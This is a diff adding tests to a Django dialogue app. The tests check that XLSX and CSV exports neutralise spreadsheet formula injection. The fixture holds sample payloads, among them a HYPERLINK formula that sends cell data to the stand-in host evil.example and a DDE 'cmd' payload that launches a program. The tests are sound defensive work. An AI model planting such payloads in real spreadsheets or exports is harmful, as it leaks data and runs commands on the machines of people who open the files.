@@ -97,3 +97,97 @@ def test_a_hidden_dialogue_cannot_be_exported(client, closed_space, tmp_path):
     slug = Dialogue.objects.get().slug
     assert client.get(f"/dialogen/{slug}/export.xlsx").status_code == 404
     assert client.get(f"/dialogen/{slug}/export.exe").status_code == 404
+
+
+# --- text that looks like a formula ------------------------------------------------------------
+
+FORMULAS = {
+    "statement": '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")',
+    "cluster": "+cmd|' /C calc'!A0",
+    "poll": "@SUM(1+1)",
+    "option": "-2+3",
+    "question": "\t=1+1",
+}
+
+
+def dialogue_with_formulas(tmp_path) -> Dialogue:
+    """A dialogue whose participants wrote text that a spreadsheet would run."""
+    call_command(
+        "import_dialogue",
+        str(write_csv_folder(tmp_path / "map", WORKBOOK)),
+        format="workbook",
+        verbosity=0,
+    )
+    dialogue = Dialogue.objects.get()
+    statement = dialogue.statements.get(text="Bewoners weten wat er speelt.")
+    statement.text = FORMULAS["statement"]
+    statement.save()
+    cluster = statement.cluster
+    cluster.name = FORMULAS["cluster"]
+    cluster.save()
+    poll = dialogue.polls.get()
+    poll.text = FORMULAS["poll"]
+    poll.save()
+    option = poll.options.first()
+    option.text = FORMULAS["option"]
+    option.save()
+    question = dialogue.questions.get(number=2)
+    question.text = FORMULAS["question"]
+    question.save()
+    return dialogue
+
+
+def test_the_xlsx_export_holds_formula_like_text_as_text(client, tmp_path):
+    import io
+
+    from openpyxl import load_workbook
+
+    dialogue = dialogue_with_formulas(tmp_path)
+    response = client.get(f"/dialogen/{dialogue.slug}/export.xlsx")
+    workbook = load_workbook(io.BytesIO(response.content))
+
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = {c.value for c in cells if c.data_type == "s"}
+    assert set(FORMULAS.values()) <= texts  # each exactly as written, no quote added
+    # And so they come back exactly on re-import (the importer strips the question's tab).
+    exported = tmp_path / "export.xlsx"
+    exported.write_bytes(response.content)
+    call_command("import_dialogue", str(exported), format="workbook", replace=True, verbosity=0)
+    dialogue = Dialogue.objects.get()
+    assert dialogue.statements.filter(text=FORMULAS["statement"]).exists()
+    assert dialogue.polls.get().text == FORMULAS["poll"]
+    assert dialogue.questions.get(number=2).text == "=1+1"
+
+
+def test_the_csv_export_puts_a_quote_before_formula_like_text(client, tmp_path):
+    import csv
+    import io
+    import zipfile
+
+    dialogue = dialogue_with_formulas(tmp_path)
+    response = client.get(f"/dialogen/{dialogue.slug}/export.zip")
+    archive = zipfile.ZipFile(io.BytesIO(response.content))
+    cells = {
+        name: [cell for row in csv.reader(io.StringIO(archive.read(name).decode())) for cell in row]
+        for name in archive.namelist()
+    }
+
+    everything = [cell for sheet in cells.values() for cell in sheet]
+    assert [c for c in everything if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    assert "'" + FORMULAS["statement"] in cells["stellingen.csv"]
+    assert cells["stellingen.csv"].count("'" + FORMULAS["cluster"]) == 1
+    assert "'" + FORMULAS["cluster"] in cells["clusters.csv"]
+    assert "'" + FORMULAS["poll"] in cells["polls.csv"]
+    assert "'" + FORMULAS["option"] in cells["polls.csv"]
+    assert "'" + FORMULAS["question"] in cells["vragen.csv"]
+    # Ordinary text is as it was.
+    assert "Beleid moet jaren meegaan." in cells["stellingen.csv"]
+    assert "Lange adem" in cells["clusters.csv"]
+    # The quote stays on re-import: the text comes back visibly marked, never as a formula.
+    exported = tmp_path / "export.zip"
+    exported.write_bytes(response.content)
+    call_command("import_dialogue", str(exported), format="workbook", replace=True, verbosity=0)
+    dialogue = Dialogue.objects.get()
+    assert dialogue.statements.filter(text="'" + FORMULAS["statement"]).exists()
+    assert dialogue.statements.filter(text="Beleid moet jaren meegaan.").exists()
